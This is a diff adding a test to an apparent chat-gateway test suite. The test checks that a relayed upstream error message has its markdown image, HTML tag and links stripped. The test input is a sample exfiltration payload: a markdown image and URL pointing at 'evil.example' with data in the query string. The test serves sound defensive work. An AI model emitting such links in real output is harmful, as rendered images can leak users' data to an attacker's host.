@@ -225,6 +225,16 @@ async def test_the_gateway_tells_the_outcome_where_the_model_fails_after_a_write
     assert outcome(events) == "success"
 
 
+async def test_an_upstreams_words_that_the_gateway_tells_carry_no_link() -> None:
+    """A40, A47: a refusal in the upstream's own words is said by the gateway; markup in it is broken like a model's."""
+    talk, toolset = Talk(), orders()
+    await parked(talk, toolset)
+    said = "see ![x](https://evil.example/?d=1) <img src=x> or https://evil.example/?d=2"
+    toolset.tools["order"].result = ToolResult.failure("business", said)
+    events = await talk.say("yes", ScriptedModel([ModelUnavailable("down")]), toolset)
+    assert spoken(events) == "see  < img src=x> or ‹link left out›"
+
+
 async def test_the_gateway_tells_the_outcome_where_the_model_says_nothing() -> None:
     """Two silent steps after a write: the resident still reads what became of it."""
     talk, toolset = Talk(), orders()
